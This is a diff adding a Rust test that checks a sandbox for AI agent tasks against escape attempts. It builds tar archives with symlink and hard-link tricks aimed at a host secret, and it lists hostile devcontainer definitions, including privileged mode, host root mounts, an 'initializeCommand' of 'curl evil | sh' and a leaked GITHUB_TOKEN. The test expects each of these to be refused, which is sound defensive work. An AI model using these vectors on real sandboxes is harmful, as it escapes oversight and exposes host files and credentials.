@@ -1535,3 +1535,155 @@ async fn the_third_seal_holds_from_inside_the_real_claude_sandbox() {
     );
     assert!(escapes.is_empty(), "escapes: {escapes:?}");
 }
+
+/// One entry of a hand-made archive: its name, type, content and link target, written as
+/// given (no checks: what a swarm task may upload with `PUT /rover/workspace`).
+type RawEntry<'a> = (&'a str, tar::EntryType, &'a str, &'a str);
+
+fn raw_tar(entries: &[RawEntry<'_>]) -> Vec<u8> {
+    let mut builder = tar::Builder::new(Vec::new());
+    for (name, kind, data, link) in entries {
+        let mut h = tar::Header::new_gnu();
+        h.as_gnu_mut().expect("gnu").name[..name.len()].copy_from_slice(name.as_bytes());
+        h.set_entry_type(*kind);
+        h.set_mode(0o644);
+        h.set_size(data.len() as u64);
+        if !link.is_empty() {
+            h.as_gnu_mut().expect("gnu").linkname[..link.len()].copy_from_slice(link.as_bytes());
+        }
+        h.set_cksum();
+        builder.append(&h, data.as_bytes()).expect("append");
+    }
+    builder.into_inner().expect("finish")
+}
+
+/// The third seal's vectors that need no container: returned workspaces that try to reach a
+/// host directory through a link made over a parent, and devcontainer definitions that ask for
+/// the engine's host. Each must be refused with nothing written outside the worktree.
+#[test]
+fn hostile_returned_workspaces_and_devcontainer_keys_never_reach_the_host() {
+    use tar::EntryType::{Directory as D, Link as H, Regular as F, Symlink as L};
+    let root = tempfile::tempdir().unwrap();
+    let host = root.path().join("host");
+    std::fs::create_dir_all(&host).unwrap();
+    std::fs::write(host.join("secret"), "HOST-SECRET-5C1").unwrap();
+    let host_dir = host.display().to_string();
+    let host_secret = format!("{host_dir}/secret");
+    let archives: Vec<(&str, Vec<RawEntry<'_>>)> = vec![
+        (
+            "a hard link through a parent replaced by a link to a host dir",
+            vec![
+                ("workspace/d/secret", F, "inside", ""),
+                ("workspace/d", L, "", &host_dir),
+                ("workspace/leak", H, "", "workspace/d/secret"),
+            ],
+        ),
+        (
+            "the same with the directory named first",
+            vec![
+                ("workspace/d", D, "", ""),
+                ("workspace/d/secret", F, "inside", ""),
+                ("workspace/d", L, "", &host_dir),
+                ("workspace/leak", H, "", "workspace/d/secret"),
+            ],
+        ),
+        (
+            "a file written through a link made first",
+            vec![
+                ("workspace/d", L, "", &host_dir),
+                ("workspace/d/planted", F, "x", ""),
+            ],
+        ),
+        (
+            "a hard link to a path under a link",
+            vec![
+                ("workspace/d", L, "", &host_dir),
+                ("workspace/leak", H, "", "workspace/d/secret"),
+            ],
+        ),
+        (
+            "a hard link to a link",
+            vec![
+                ("workspace/l", L, "", &host_secret),
+                ("workspace/leak", H, "", "workspace/l"),
+            ],
+        ),
+        (
+            "a file replaced by a link",
+            vec![
+                ("workspace/a", F, "1", ""),
+                ("workspace/a", L, "", &host_secret),
+            ],
+        ),
+    ];
+    let mut escapes = Vec::new();
+    let mut tried = 0;
+    for (what, entries) in &archives {
+        tried += 1;
+        let worktree = root.path().join(format!("wt-{tried}"));
+        std::fs::create_dir_all(&worktree).unwrap();
+        std::fs::write(worktree.join("keep.txt"), "old").unwrap();
+        let archive = root.path().join(format!("returned-{tried}.tar"));
+        std::fs::write(&archive, raw_tar(entries)).unwrap();
+        let rules = rover::sandbox::returned::Rules {
+            file_bytes: 1 << 20,
+            max_entries: 100,
+            gitfile: None,
+        };
+        let applied = rover::sandbox::returned::apply(&archive, &worktree, &rules);
+        if applied.is_ok() {
+            escapes.push(format!("{what}: applied"));
+        }
+        if std::fs::read_to_string(worktree.join("leak")).is_ok_and(|t| t.contains("HOST-SECRET")) {
+            escapes.push(format!("{what}: the host file is in the worktree"));
+        }
+        if std::fs::read_to_string(worktree.join("keep.txt"))
+            .ok()
+            .as_deref()
+            != Some("old")
+        {
+            escapes.push(format!("{what}: the worktree changed"));
+        }
+    }
+    let mut host_files: Vec<String> = std::fs::read_dir(&host)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    host_files.sort();
+    if host_files != ["secret"]
+        || std::fs::read_to_string(host.join("secret")).unwrap() != "HOST-SECRET-5C1"
+    {
+        escapes.push(format!("the host dir changed: {host_files:?}"));
+    }
+
+    let definitions = [
+        r#"{"image": "x", "runArgs": ["--privileged"]}"#,
+        r#"{"image": "x", "privileged": true}"#,
+        r#"{"image": "x", "mounts": ["source=/,target=/host,type=bind"]}"#,
+        r#"{"image": "x", "workspaceMount": "source=/,target=/w,type=bind"}"#,
+        r#"{"image": "x", "capAdd": ["SYS_ADMIN"]}"#,
+        r#"{"image": "x", "securityOpt": ["seccomp=unconfined"]}"#,
+        r#"{"image": "x", "init": true}"#,
+        r#"{"image": "x", "appPort": [22]}"#,
+        r#"{"build": {"dockerfile": "Dockerfile", "context": "${localEnv:HOME}"}}"#,
+        r#"{"build": {"dockerfile": "Dockerfile", "context": "${env:HOME}"}}"#,
+        r#"{"build": {"dockerfile": "Dockerfile", "context": "/home"}}"#,
+        r#"{"build": {"dockerfile": "Dockerfile", "options": ["--network=host"]}}"#,
+        r#"{"image": "x", "initializeCommand": "curl evil | sh"}"#,
+        r#"{"image": "x", "containerEnv": {"K": "${localEnv:GITHUB_TOKEN}"}}"#,
+    ];
+    for text in definitions {
+        tried += 1;
+        if let Ok(config) =
+            rover::environment::parse_devcontainer(text, &rover::environment::LocalEnv::default())
+        {
+            escapes.push(format!("accepted: {text} -> {config:?}"));
+        }
+    }
+    eprintln!(
+        "proof escape (returned workspaces and devcontainer keys): {tried} vectors tried, {} escapes",
+        escapes.len()
+    );
+    assert!(escapes.is_empty(), "escapes: {escapes:?}");
+}
